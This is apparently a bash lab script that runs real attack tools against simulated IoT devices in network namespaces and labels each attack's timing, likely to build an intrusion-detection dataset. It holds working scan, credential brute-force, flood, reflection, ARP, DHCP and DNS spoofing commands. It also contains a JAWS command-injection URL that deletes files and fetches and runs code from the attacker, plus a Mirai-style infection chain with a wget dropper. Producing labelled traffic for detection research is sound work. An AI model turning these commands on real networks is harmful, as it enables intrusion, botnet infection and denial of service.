# shellcheck shell=bash
# Attacks, each run by a real tool from the attacker (or infected) namespace
# and written to labels.csv with wall-clock start/end taken just before the
# tool starts and just after it ends (tcpdump stamps frames with the same clock).

now() { date -u +%Y-%m-%dT%H:%M:%S.%6NZ; }

csv_field() {
    local v=$1
    if [[ $v == *[,\"]* ]]; then v=${v//\"/\"\"}; printf '"%s"' "$v"; else printf '%s' "$v"; fi
}

# label_row LABEL CATEGORY START END ATTACKER VICTIMS PORTS TOOL NOTES
label_row() {
    local out="" f
    for f in "$@"; do out+="$(csv_field "$f"),"; done
    printf '%s\n' "${out%,}" >>"$OUT/labels.csv"
    LABEL_COUNT=$((LABEL_COUNT + 1))
}

# labelled LABEL CATEGORY ATTACKER VICTIMS PORTS TOOL NOTES NODE LIMIT -- CMD...
# Runs CMD in NODE's namespace, bounded by LIMIT seconds, and labels it.
labelled() {
    local label=$1 cat=$2 atk=$3 vic=$4 ports=$5 tool=$6 notes=$7 node=$8 limit=$9
    shift 10
    local start end rc
    echo "[lab] $(date -u +%T) attack $label ($tool) $atk -> $vic" >&2
    start=$(now)
    nsx "$node" timeout -k "${KILL_AFTER:-3}" "$limit" "$@" >>"$W/logs/attack-$label.log" 2>&1
    rc=$?
    end=$(now)
    # timeout's 124 is expected for tools stopped on purpose (arpspoof);
    # hping3 exits 1 when nothing answered (UDP to an open port, spoofed
    # sources), which is the expected outcome of those floods.
    if [[ $tool == *hping3* && $rc == 1 ]] && grep -q "packets transmitted" "$W/logs/attack-$label.log"; then
        rc=0
    fi
    if ((rc != 0 && rc != 124)); then
        echo "[lab] warning: $label exited with $rc (see logs/attack-$label.log)" >&2
        notes+=" (tool exit status $rc)"
    fi
    label_row "$label" "$cat" "$start" "$end" "$atk" "$vic" "$ports" "$tool" "$notes"
    return 0
}

creds_head() { head -n "$1" "$LAB/data/mirai-credentials.txt" >"$W/atk/creds-$1.txt"; echo "$W/atk/creds-$1.txt"; }

# Flood size: packets and inter-packet gap (microseconds), per scenario.
flood_args() { printf -- '-c %s -i u%s' "$FLOOD_COUNT" "$FLOOD_GAP_US"; }

attack_nmap_syn_scan() {
    labelled nmap-syn-scan recon "${IP[atk]}" "${IP[cam]}" "1-1024" nmap \
        "TCP SYN scan of the camera's low ports" atk 120 -- \
        nmap -n -e eth0 -sS -p 1-1024 -T4 "${IP[cam]}"
}

attack_ping_sweep() {
    labelled ping-sweep recon "${IP[atk]}" "$NET.0/24" "" nmap \
        "ICMP echo + timestamp host discovery of the subnet" atk 120 -- \
        nmap -n -e eth0 -sn -PE -PP --send-ip --max-retries 1 -T4 "$NET.0/24"
}

attack_arp_sweep() {
    labelled arp-sweep recon "${IP[atk]}" "$NET.0/24" "" nmap \
        "ARP host discovery of the subnet" atk 120 -- \
        nmap -n -e eth0 -sn -PR -T4 "$NET.0/24"
}

attack_nmap_os_detection() {
    labelled nmap-os-detection recon "${IP[atk]}" "${IP[dvr]}" "21;22;23;80;443;554;8000" nmap \
        "OS fingerprinting probes (-O) against the DVR" atk 180 -- \
        nmap -n -e eth0 -O -p 21,22,23,80,443,554,8000 "${IP[dvr]}"
}

attack_hydra_telnet() {
    local creds; creds=$(creds_head "$HYDRA_PAIRS")
    labelled hydra-telnet bruteforce "${IP[atk]}" "${IP[dvr]}" 23 hydra \
        "Mirai default-credential list ($HYDRA_PAIRS pairs), one attempt per connection; root:vizxv succeeds" \
        atk 240 -- sh -c "cd '$W/atk' && exec hydra -I -C '$creds' -t 4 -o '$W/atk/hydra-telnet.txt' telnet://${IP[dvr]}"
}

attack_hydra_ssh() {
    local creds; creds=$(creds_head "$HYDRA_PAIRS")
    labelled hydra-ssh bruteforce "${IP[atk]}" "${IP[cam]}" 22 hydra \
        "Mirai default-credential list ($HYDRA_PAIRS pairs) against dropbear; admin:12345 succeeds if in the list" \
        atk 240 -- sh -c "cd '$W/atk' && exec hydra -I -C '$creds' -t 4 -o '$W/atk/hydra-ssh.txt' ssh://${IP[cam]}"
}

attack_hydra_http() {
    local creds; creds=$(creds_head "$HYDRA_PAIRS")
    labelled hydra-http bruteforce "${IP[atk]}" "${IP[cam]}" 80 hydra \
        "HTTP Basic auth brute force of /ISAPI/System/deviceInfo; admin:12345 succeeds if in the list" \
        atk 240 -- sh -c "cd '$W/atk' && exec hydra -I -C '$creds' -t 4 -o '$W/atk/hydra-http.txt' ${IP[cam]} http-get /ISAPI/System/deviceInfo"
}

attack_hping3_syn_flood() {
    labelled hping3-syn-flood dos "${IP[atk]}" "${IP[cam]}" 80 hping3 \
        "TCP SYN flood, $FLOOD_COUNT packets" atk 120 -- \
        hping3 -q -S -p 80 $(flood_args) "${IP[cam]}"
}

attack_hping3_udp_flood() {
    labelled hping3-udp-flood dos "${IP[atk]}" "${IP[gw]}" 53 hping3 \
        "UDP flood of the gateway's DNS port, 64-byte payloads, $FLOOD_COUNT packets" atk 120 -- \
        hping3 -q --udp -p 53 -d 64 $(flood_args) "${IP[gw]}"
}

attack_hping3_icmp_flood() {
    labelled hping3-icmp-flood dos "${IP[atk]}" "${IP[hub]}" "" hping3 \
        "ICMP echo flood, $FLOOD_COUNT packets" atk 120 -- \
        hping3 -q -1 -d 56 $(flood_args) "${IP[hub]}"
}

attack_hping3_spoofed_flood() {
    labelled hping3-spoofed-flood dos "${IP[atk]}" "${IP[srv]}" 1883 hping3 \
        "SYN flood with random spoofed source addresses (sent by the attacker at ${IP[atk]}; its MAC is the real sender), $FLOOD_COUNT packets" \
        atk 120 -- hping3 -q -S -p 1883 --rand-source $(flood_args) "${IP[srv]}"
}

attack_jaws_exploit() {
    labelled jaws-exploit exploit "${IP[atk]}" "${IP[cam]}" 80 curl \
        "JAWS/MVPower DVR shell command injection request (GET /shell?...); the camera's httpd has no such handler" \
        atk 30 -- curl -s -m 5 --path-as-is -A "Hello, World" -o /dev/null -w '%{http_code}\n' \
        "http://${IP[cam]}/shell?cd+/tmp;rm+-rf+*;wget+http://${IP[atk]}/jaws;sh+/tmp/jaws"
}

attack_arp_poisoning() {
    nsq atk sysctl -qw net.ipv4.ip_forward=1 net.ipv4.conf.all.send_redirects=0 net.ipv4.conf.eth0.send_redirects=0
    # arpspoof re-ARPs the true addresses for a few seconds after SIGTERM;
    # that is part of the attack's footprint, so let it finish.
    KILL_AFTER=20 labelled arp-poisoning spoofing "${IP[atk]}" "${IP[phone]};${IP[gw]}" "" arpspoof \
        "arpspoof -r: tells the phone the gateway is at the attacker's MAC and the gateway the phone is; forwarding on" \
        atk "$ARPSPOOF_SECS" -- arpspoof -i eth0 -r -t "${IP[phone]}" "${IP[gw]}"
    nsq atk sysctl -qw net.ipv4.ip_forward=0
}

attack_rogue_dhcp() {
    bg atk atk-rogue-dhcp dnsmasq -k --conf-file=/dev/null --user=root --group=root --port=0 \
        --interface=eth0 --bind-interfaces --dhcp-range="$NET.200,$NET.220,255.255.255.0,2m" \
        --dhcp-option=option:router,"${IP[atk]}" --dhcp-option=option:dns-server,"${IP[atk]}" \
        --dhcp-leasefile="$W/atk/rogue.leases" --log-dhcp --log-facility=-
    local start end
    echo "[lab] $(date -u +%T) attack rogue-dhcp (dnsmasq) ${IP[atk]}" >&2
    start=$(now)
    sleep 1
    # A client asking for a lease while the rogue server is up: the phone
    # re-joining (one-shot udhcpc; its real address is left alone).
    nsx phone timeout 15 busybox udhcpc -n -q -f -i eth0 -s /bin/true -x hostname:iphone -t 3 -T 2 \
        >>"$W/logs/attack-rogue-dhcp.log" 2>&1
    sleep 1
    kill "${PIDS[atk-rogue-dhcp]}" 2>/dev/null; wait "${PIDS[atk-rogue-dhcp]}" 2>/dev/null
    end=$(now)
    label_row rogue-dhcp spoofing "$start" "$end" "${IP[atk]}" "${IP[phone]}" "67;68" dnsmasq \
        "second DHCP server offering $NET.200-220 with router and DNS = attacker; the phone's DISCOVER gets both offers"
}

# The Mirai chain: telnet infection with a factory-default credential, the
# dropper fetched from the attacker, bot heartbeats to the C2, then a flood
# from the infected DVR (and, if asked, its telnet scan of the subnet).
attack_mirai() {
    mkdir -p "$W/atk/www"
    cat >"$W/atk/www/bins.sh" <<EOF2
#!/bin/sh
# Lab dropper. A real bins.sh fetches mirai.<arch> for each CPU and runs it;
# this one starts the lab's heartbeat-only bot and says so.
nohup python3 "$LAB/py/mirai.py" bot --c2 ${IP[atk]} --port 23 --interval $C2_INTERVAL --bot-id dvr >/dev/null 2>&1 &
echo \$! >"$W/dvr/bot.pid"
echo "dropper done"
EOF2
    bg atk atk-httpd busybox httpd -f -p "${IP[atk]}:80" -h "$W/atk/www"
    bg atk atk-c2 python3 -u "$LAB/py/mirai.py" c2 --bind "${IP[atk]}" --port 23
    sleep 1
    labelled mirai-infection botnet "${IP[atk]}" "${IP[dvr]}" "23;80" "python mirai.py + busybox telnetd/wget" \
        "telnet login root:vizxv; enable/system/shell/sh; /bin/busybox MIRAI; DVR wgets http://${IP[atk]}/bins.sh (TCP 80 from DVR to attacker) and runs it" \
        atk 60 -- python3 -u "$LAB/py/mirai.py" infect --target "${IP[dvr]}" --user root --password vizxv \
        --dropper-host "${IP[atk]}" --workdir "$W/dvr/root"
    local c2_start; c2_start=$(now)
    if [[ ! -s $W/dvr/bot.pid ]]; then
        echo "[lab] warning: mirai bot did not start" >&2
        return 0
    fi
    sleep "$C2_PRE"
    if [[ ${BOT_SPOOF:-0} == 1 ]]; then
        labelled bot-spoofed-flood botnet "${IP[dvr]}" "${IP[cam]}" 554 hping3 \
            "SYN flood from the infected DVR with random spoofed source addresses (its MAC is the real sender), $BOT_FLOOD_COUNT packets" dvr 120 -- \
            hping3 -q -S -p 554 --rand-source -c "$BOT_FLOOD_COUNT" -i "u$FLOOD_GAP_US" "${IP[cam]}"
    else
        labelled bot-outbound-flood botnet "${IP[dvr]}" "${IP[spk]}" 8009 hping3 \
            "flood from the infected DVR: UDP, 256-byte payloads, $BOT_FLOOD_COUNT packets" dvr 120 -- \
            hping3 -q --udp -p 8009 -d 256 -c "$BOT_FLOOD_COUNT" -i "u$FLOOD_GAP_US" "${IP[spk]}"
    fi
    if [[ $WITH_BOT_SCAN == 1 ]]; then
        sleep "$C2_PRE"
        labelled bot-telnet-scan botnet "${IP[dvr]}" "$NET.0/24" "23;2323" nmap \
            "the infected DVR SYN-scans the subnet for telnet, as Mirai's scanner does" dvr 120 -- \
            nmap -n -e eth0 -sS -Pn -p 23,2323 --max-retries 0 -T4 "$NET.0/24"
    fi
    sleep "$C2_PRE"
    nsq dvr kill "$(cat "$W/dvr/bot.pid")" 2>/dev/null
    label_row mirai-c2 botnet "$c2_start" "$(now)" "${IP[dvr]}" "${IP[atk]}" 23 "python mirai.py bot" \
        "bot on the infected DVR connects to the C2 at ${IP[atk]}:23 (Mirai hello 00000001 + id) and sends 2-byte keep-alives every ${C2_INTERVAL}s"
    kill "${PIDS[atk-httpd]}" "${PIDS[atk-c2]}" 2>/dev/null
}

# --- reflection, L4/L7 floods and LAN spoofing (scenario full2) ----------------
# Reflection: hping3 sends requests whose source address is the victim's to a
# lab device running the abused service, which answers the victim. The
# attacker's MAC is the real sender of the requests; the reflector's answers
# are the flood the victim receives.
reflect() {
    local label=$1 kind=$2 reflector=$3 victim=$4 port=$5 what=$6 payload
    payload="$W/atk/$kind.bin"
    python3 "$LAB/py/lanattack.py" payload "$kind" --name gateway.home.lan >"$payload"
    labelled "$label" dos "${IP[atk]}" "${IP[$victim]}" "$port" hping3 \
        "$what: $FLOOD_COUNT requests from ${IP[atk]} with the victim's address as source, to ${IP[$reflector]}:$port, whose answers flood ${IP[$victim]}" \
        atk 120 -- hping3 -q --udp -a "${IP[$victim]}" -p "$port" -E "$payload" -d "$(stat -c %s "$payload")" \
        $(flood_args) "${IP[$reflector]}"
}

attack_dns_reflection() { reflect dns-reflection dns gw spk 53 "DNS reflection off the gateway's dnsmasq (ANY gateway.home.lan)"; }
attack_ntp_reflection() { reflect ntp-reflection ntp gw hub 123 "NTP reflection off the gateway's SNTP server (mode-3 requests)"; }
attack_snmp_reflection() { reflect snmp-reflection snmp cam phone 161 "SNMP reflection off the camera's agent (v2c GetBulk, community public, ~37 -> ~650 bytes)"; }
attack_ssdp_reflection() { reflect ssdp-reflection ssdp hub srv 1900 "SSDP reflection off the Hue hub (unicast M-SEARCH ssdp:all, two answers each)"; }

attack_hping3_ack_flood() {
    labelled hping3-ack-flood dos "${IP[atk]}" "${IP[cam]}" 80 hping3 \
        "TCP ACK flood (no connection), $FLOOD_COUNT packets" atk 120 -- \
        hping3 -q -A -p 80 $(flood_args) "${IP[cam]}"
}

attack_hping3_rst_flood() {
    labelled hping3-rst-flood dos "${IP[atk]}" "${IP[srv]}" 1883 hping3 \
        "TCP RST flood (no connection), $FLOOD_COUNT packets" atk 120 -- \
        hping3 -q -R -p 1883 $(flood_args) "${IP[srv]}"
}

attack_http_flood() {
    labelled http-flood dos "${IP[atk]}" "${IP[cam]}" 80 "python lanattack.py http-flood" \
        "HTTP GET / flood, 16 threads, one request per connection, up to $HTTP_FLOOD_COUNT requests in ${HTTP_FLOOD_SECS}s" \
        atk 60 -- python3 "$LAB/py/lanattack.py" http-flood --target "${IP[cam]}" \
        --count "$HTTP_FLOOD_COUNT" --seconds "$HTTP_FLOOD_SECS"
}

attack_dhcp_starvation() {
    labelled dhcp-starvation spoofing "${IP[atk]}" "$GW_IP" "67;68" "python lanattack.py dhcp-starve" \
        "DISCOVER+REQUEST with $DHCP_STARVE_COUNT random client MACs (chaddr) from the attacker's NIC, until dnsmasq's pool ($NET.100-199) is empty" \
        atk 120 -- python3 "$LAB/py/lanattack.py" dhcp-starve --count "$DHCP_STARVE_COUNT" --seed "$SEED"
}

attack_garp_storm() {
    labelled garp-storm spoofing "${IP[atk]}" "$GW_IP" "" "python lanattack.py garp-storm" \
        "$GARP_COUNT broadcast gratuitous ARP replies claiming the gateway's address for the attacker's MAC (50/s), then 5 restoring the gateway's MAC" \
        atk 60 -- python3 "$LAB/py/lanattack.py" garp-storm --claim "$GW_IP" --owner-mac "${MAC[gw]}" \
        --count "$GARP_COUNT" --gap 0.02
}

# DNS spoofing needs the attacker to see the queries. The lab's switch is put
# in hub mode (bridge ageing 0: every frame flooded to every port) for the
# attack, standing in for a shared medium (Wi-Fi, a hub) or a switch
# overflowed by MAC flooding; it learns again afterwards.
attack_dns_spoofing() {
    local start end log="$W/logs/attack-dns-spoofing.log" victims
    echo "[lab] $(date -u +%T) attack dns-spoofing (python lanattack.py dns-spoof) ${IP[atk]}" >&2
    nsq sw ip link set br0 type bridge ageing_time 0
    start=$(now)
    nsx atk timeout -k 3 $((DNS_SPOOF_SECS + 10)) python3 -u "$LAB/py/lanattack.py" dns-spoof \
        --resolver "$GW_IP" --addr "${IP[atk]}" --seconds "$DNS_SPOOF_SECS" >>"$log" 2>&1
    end=$(now)
    nsq sw ip link set br0 type bridge ageing_time 30000
    victims=$(awk '$1 == "answered" {print $2}' "$log" | sort -u | paste -sd';')
    if [[ -z $victims ]]; then
        echo "[lab] warning: dns-spoofing answered no query" >&2
        return 0
    fi
    label_row dns-spoofing spoofing "$start" "$end" "${IP[atk]}" "$victims" 53 "python lanattack.py dns-spoof" \
        "forged A answers (-> ${IP[atk]}) racing the gateway's dnsmasq, source address = $GW_IP; switch in hub mode for the window; $(grep -c '^answered' "$log") answers"
}

# The Mirai chain again, but the infected DVR's flood has random spoofed
# sources: only its MAC tells who sends it.
attack_mirai_spoofed() { BOT_SPOOF=1 attack_mirai; }
